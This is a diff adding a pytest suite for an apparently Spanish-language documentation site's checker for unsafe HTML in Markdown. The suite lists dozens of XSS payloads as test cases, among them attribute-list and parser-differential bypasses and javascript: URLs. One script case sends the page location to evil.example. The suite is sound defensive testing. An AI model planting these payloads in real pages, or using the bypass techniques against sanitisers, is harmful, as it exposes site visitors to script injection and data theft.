@@ -1,0 +1,226 @@
+"""Unsafe HTML, checked in the rendered page body (build_tools.html_safety)
+and at the Markdown source (build_tools.safety, build_tools.pages)."""
+
+import re
+from pathlib import Path
+
+import markdown
+import pytest
+from hypothesis import given, settings
+from hypothesis import strategies as st
+from mkdocs.config import load_config
+
+from build_tools import html_safety
+from build_tools.html_safety import MESSAGES, check_page_html, find_unsafe_html
+from build_tools.pages import check_page
+from build_tools.safety import find_unsafe
+from conftest import ROOT
+
+SHOWN = "docs/es/hogar/aguinaldo.md"
+EVENT, STYLE, HIDDEN = MESSAGES["event"], MESSAGES["style"], MESSAGES["hidden"]
+JAVASCRIPT = MESSAGES["url"].format("javascript")
+
+
+def tag(name: str) -> str:
+    return MESSAGES["tag"].format(name)
+
+
+@pytest.fixture(scope="session")
+def render():
+    """Markdown to HTML with the project's own extensions and settings."""
+    config = load_config(str(ROOT / "mkdocs.yml"))
+    md = markdown.Markdown(extensions=config.markdown_extensions, extension_configs=config.mdx_configs)
+    return lambda text: md.reset().convert(text)
+
+
+# Ways past the first source check, each confirmed in a built page or in
+# Python-Markdown's output with the project's extensions:
+# (id, Markdown, line of the problem, message)
+BYPASSES = [
+    ("attr-list-heading", "Texto.\n\n## Cuánto { onclick=\"alert(1)\" }", 3, EVENT),
+    ("attr-list-heading-with-id", "## Cuánto {#cuanto onmouseover=\"alert(1)\"}", 1, EVENT),
+    ("attr-list-link", "Llama [aquí](https://www.gob.mx/profedet){ onclick=\"alert(1)\" }.", 1, EVENT),
+    ("attr-list-reference-link", "Ver [aquí][p]{: onfocus=alert(1) }.\n\n[p]: https://www.gob.mx", 1, EVENT),
+    ("attr-list-paragraph", "Un párrafo.\n{: onclick=\"alert(1)\" }", 2, EVENT),
+    ("attr-list-image", "![logo](https://www.gob.mx/logo.png){: onerror=\"alert(1)\" }", 1, EVENT),
+    ("attr-list-emphasis", "*importante*{: onmouseover=alert(1) }", 1, EVENT),
+    ("attr-list-table-cell", "| a |\n|---|\n| b { onclick=alert(1) } |", 3, EVENT),
+    ("attr-list-fence", "```{ .text onclick=\"alert(1)\" }\ncódigo\n```", 1, EVENT),
+    ("attr-list-hiding-style", "Texto oculto.\n{: style=\"display:none\" }", 2, STYLE),
+    ("attr-list-hidden", "Texto oculto.\n{: hidden }", 2, HIDDEN),
+    ("quote-then-attribute", '<div title="x"onclick="alert(1)">\nhola\n</div>', 1, EVENT),
+    ("slash-separator", "<img/onerror=alert(1)/src=https://www.gob.mx/x.png>", 1, EVENT),
+    ("greater-than-in-a-value", '<a title=">" onclick="alert(1)">x</a>', 1, EVENT),
+    ("escaped-backticks", "Ver \\`<img src=x onerror=alert(1)>\\` aquí.", 1, EVENT),
+    ("code-span-in-html-block", "<div>`<img src=x onerror=alert(1)>`</div>", 1, EVENT),
+    ("unclosed-fence", "Texto.\n\n```\n<img src=x onerror=alert(1)>", 4, EVENT),
+    ("indented-fence", " ```\n\n<img src=x onerror=alert(1)>\n\n ```", 3, EVENT),
+    ("fence-with-words", "```no es código\n\n<img src=x onerror=alert(1)>\n\n```", 3, EVENT),
+    ("link-target-on-next-line", "[pulsa](\njavascript:alert(1))", 2, JAVASCRIPT),
+    ("svg-set-href", "<svg><a><set attributeName=href to=javascript:alert(1) /><text y=20>x</text></a></svg>", 1, JAVASCRIPT),
+    ("srcset-second-candidate", '<img srcset="https://www.gob.mx/a.png 1x, javascript:alert(1) 2x">', 1, JAVASCRIPT),
+    ("unquoted-hiding-style", "<span style=display:none>oculto</span>", 1, STYLE),
+    ("entity-in-hiding-style", '<span style="display&colon;none">oculto</span>', 1, STYLE),
+    ("css-escape-in-hiding-style", '<span style="di\\73play: none">oculto</span>', 1, STYLE),
+    ("hidden-attribute", "<span hidden>oculto</span>", 1, HIDDEN),
+    ("link-element", '<link rel="stylesheet" href="https://evil.example/x.css">', 1, tag("link")),
+]
+
+# Where a browser and Python's HTML parser read the same text differently:
+# the first source check's patterns caught these; a parser-based check has
+# to take care of them
+PARSER_TRAPS = [
+    ("noscript-raw-text", '<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>', 1, tag("noscript")),
+    ("textarea-raw-text", '<textarea><p title="</textarea><img src=x onerror=alert(1)>"></textarea>', 1, tag("textarea")),
+    ("cdata-ends-at-first-gt", "<![CDATA[><img src=x onerror=alert(1)>]]>", 1, EVENT),
+    ("empty-comment", "Texto <!--><img src=x onerror=alert(1)>-->", 1, EVENT),
+]
+
+# What the first source check already caught
+CLASSIC = [
+    ("script", "<script>fetch('https://evil.example/?p=' + location)</script>", 1, tag("script")),
+    ("iframe", '<iframe src="https://evil.example"></iframe>', 1, tag("iframe")),
+    ("object", '<object data="x.swf"></object>', 1, tag("object")),
+    ("embed", '<embed src="x.swf">', 1, tag("embed")),
+    ("style-element", "<style>.md-content { display: none }</style>", 1, tag("style")),
+    ("base", '<base href="https://evil.example/">', 1, tag("base")),
+    ("meta-refresh", '<meta http-equiv="refresh" content="0;url=https://evil.example">', 1, tag("meta")),
+    ("form", '<form action="https://evil.example"><input name="curp"></form>', 1, tag("form")),
+    ("on-attribute", '<img src="x.png" onerror="alert(1)">', 1, EVENT),
+    ("on-attribute-uppercase", '<A HREF="#cuanto" ONCLICK="alert(1)">x</A>', 1, EVENT),
+    ("on-attribute-next-line", '<a href="#cuanto"\n   onmouseover="alert(1)">x</a>', 1, EVENT),
+    ("javascript-link", "[pulsa](javascript:alert(1))", 1, JAVASCRIPT),
+    ("javascript-link-entities", "[pulsa](&#106;avascript:alert(1))", 1, JAVASCRIPT),
+    ("javascript-reference", "[pulsa][x]\n\n[x]: javascript:alert(1)", 3, JAVASCRIPT),
+    ("javascript-with-tab", '<a href="jav&#9;ascript:alert(1)">x</a>', 1, JAVASCRIPT),
+    ("svg-xlink", "<svg><a xlink:href=javascript:alert(1)><text y=20>x</text></a></svg>", 1, JAVASCRIPT),
+    ("data-image", "![x](data:image/svg+xml;base64,PHN2Zz4=)", 1, MESSAGES["url"].format("data")),
+    ("hiding-style", '<span style="display:none">texto oculto</span>', 1, STYLE),
+]
+
+ALL = BYPASSES + PARSER_TRAPS + CLASSIC
+# The rendered check names the line of the attribute; the source check, of its tag
+RENDERED_LINE = {"on-attribute-next-line": 2}
+
+
+@pytest.mark.parametrize("case_id, markdown_text, line, expected", ALL, ids=[c[0] for c in ALL])
+def test_the_rendered_body_check_finds_it_and_names_the_line(render, case_id, markdown_text, line, expected):
+    line = RENDERED_LINE.get(case_id, line)
+    problems = check_page_html(render(markdown_text), SHOWN, markdown_text)
+    assert expected in [p.message for p in problems], render(markdown_text)
+    assert (SHOWN, line) in [(p.path, p.line) for p in problems if p.message == expected]
+
+
+@pytest.mark.parametrize("markdown_text, line, expected", [c[1:] for c in ALL], ids=[c[0] for c in ALL])
+def test_the_source_check_finds_it_on_its_line(markdown_text, line, expected):
+    assert (line, expected) in find_unsafe(markdown_text)
+
+
+@pytest.mark.parametrize("markdown_text", [
+    "Mira `<script>` en el código: `{ onclick=x }`",  # code spans are shown as text...
+    "```html\n<script>alert(1)</script>\n<p onclick=\"x\">\n```",  # ...and so are fenced blocks
+    "## Cuánto me toca {#cuanto}",
+    "Te toca {{ aguinaldo.dias }}.",
+    "[el aguinaldo](aguinaldo.md#cuanto) y <https://www.gob.mx/profedet>",
+    '<a href="tel:8007172942">800 717 2942</a> <span style="font-size: 0.9em; opacity: 0.8">nota</span>',
+    "Una persona online o en línea; one, once y only no son atributos.",
+    '<svg viewBox="0 0 24 24"><title>Teléfono</title><path d="M0 0h24v24H0z"/></svg>',
+])
+def test_ordinary_markdown_renders_to_a_safe_body(render, markdown_text):
+    html = render(markdown_text)
+    assert find_unsafe_html(html) == [], html
+
+
+@pytest.mark.parametrize("style, hides", [
+    ("display: none", True), ("DISPLAY:NONE", True), ("visibility:hidden", True), ("font-size: 0", True),
+    ("font-size:0px", True), ("opacity:.0", True), ("display:/**/none", True),
+    ("font-size: 0.9em", False), ("opacity: 0.8", False), ("opacity:.5", False), ("display: block", False),
+])
+def test_hiding_styles(style, hides):
+    assert html_safety.hides_text(style) is hides
+
+
+def test_a_marked_section_the_parser_does_not_know_is_read_as_a_browser_does():
+    assert [f.kind for f in find_unsafe_html("<![ x ]><img src=x onerror=alert(1)>")] == ["event"]
+
+
+@settings(max_examples=300, deadline=None)
+@given(st.text(alphabet=st.sampled_from(list("<>!/[]-=\"' \n`{}:#.aonsvgcriptx&;")), max_size=80))
+def test_any_text_gives_findings_not_a_traceback(text):
+    find_unsafe_html(text)
+    find_unsafe(text)
+
+
+def test_code_is_skipped_at_the_source_only_where_markdown_makes_it_code():
+    fenced = "```html\n<script>alert(1)</script>\n```"
+    assert find_unsafe(fenced) == []
+    # Markdown leaves a code span inside an HTML block as it is
+    assert find_unsafe("<div>`<script>alert(1)</script>`</div>") == [(1, tag("script"))]
+
+
+def test_a_finding_with_no_trace_in_the_source_names_the_file():
+    # Markup that came from a fact or a renderer, not from the page's words
+    problems = check_page_html('<p><a href="javascript:alert(1)">x</a></p>', SHOWN, "Te toca {{ dato }}.")
+    assert [(p.path, p.line, p.message) for p in problems] == [(SHOWN, None, JAVASCRIPT)]
+
+
+def test_repeated_findings_get_their_own_lines(render):
+    text = "Uno.\n{: onclick=a }\n\nDos.\n{: onclick=b }"
+    assert [p.line for p in check_page_html(render(text), SHOWN, text)] == [2, 5]
+
+
+def test_our_renderers_markup_is_allowed_only_in_the_rendered_body():
+    own = (
+        '<script type="application/json" class="dc-calc__data">{"a":1}</script>'
+        '<form class="dc-calc__form" id="dc-calc-1" novalidate hidden><p class="dc-calc__error" hidden></p></form>'
+    )
+    assert find_unsafe_html(own) == []
+    # A writer who copies it is stopped at the source
+    assert {message for _, message in find_unsafe(own)} == {tag("script"), tag("form"), HIDDEN}
+
+
+@pytest.mark.parametrize("html, expected", [
+    ('<form class="dc-calc__form" action="https://evil.example"></form>', tag("form")),
+    ('<script class="dc-calc__data">alert(1)</script>', tag("script")),
+    ('<script type="application/json" class="dc-calc__data" src="https://evil.example/x.js"></script>', tag("script")),
+    ('<p class="dc-calc__form" onclick="alert(1)">x</p>', EVENT),
+])
+def test_the_allowance_for_our_markup_is_narrow(html, expected):
+    assert expected in [html_safety.message(f) for f in find_unsafe_html(html)]
+
+
+# Front matter: the theme shows the title as HTML and puts the description
+# into an attribute; summary items are Markdown on the printable sheet.
+@pytest.mark.parametrize("header, line, expected", [
+    ("title: Aguinaldo<img src=x onerror=alert(1)>", 2, EVENT),
+    ('title: "\\x3cscript>alert(1)\\x3c/script>"', 2, tag("script")),
+    ("description: 'Cuánto te toca\" onmouseover=\"alert(1)'", 2, "the description may not contain straight double quotes"),
+    ('title: Aguinaldo\nsummary:\n  - "Te toca <img src=x onerror=alert(1)>."', 4, EVENT),
+    ("audio:\n  file: audio/a.mp3\n  title: '<a href=\"javascript:alert(1)\">x</a>'", 4, JAVASCRIPT),
+])
+def test_front_matter_values_are_checked_with_their_line(header, line, expected):
+    problems = check_page(f"---\n{header}\n---\n\n# Aguinaldo\n", SHOWN)
+    assert any(p.line == line and expected in p.message for p in problems), problems
+
+
+def test_project_pages_pass_the_source_check():
+    pages = sorted((ROOT / "docs").rglob("*.md"))
+    assert len(pages) > 50
+    problems = [p for page in pages for p in check_page(page.read_text(encoding="utf-8"), str(page))]
+    assert problems == []
+
+
+_ARTICLE = re.compile(r'<article class="md-content__inner md-typeset">(.*?)</article>', re.S)
+
+
+@pytest.mark.build
+def test_every_built_page_body_passes(built_site: Path):
+    """The real site: facts, calculators, notices, share bar and sources list."""
+    bodies = {}
+    for path in sorted(built_site.rglob("*.html")):
+        if match := _ARTICLE.search(path.read_text(encoding="utf-8")):
+            bodies[path.relative_to(built_site).as_posix()] = match.group(1)
+    assert len(bodies) > 100
+    assert any('class="dc-calc__form"' in body for body in bodies.values())
+    found = {page: [html_safety.message(f) for f in find_unsafe_html(body)] for page, body in bodies.items()}
+    assert {page: messages for page, messages in found.items() if messages} == {}
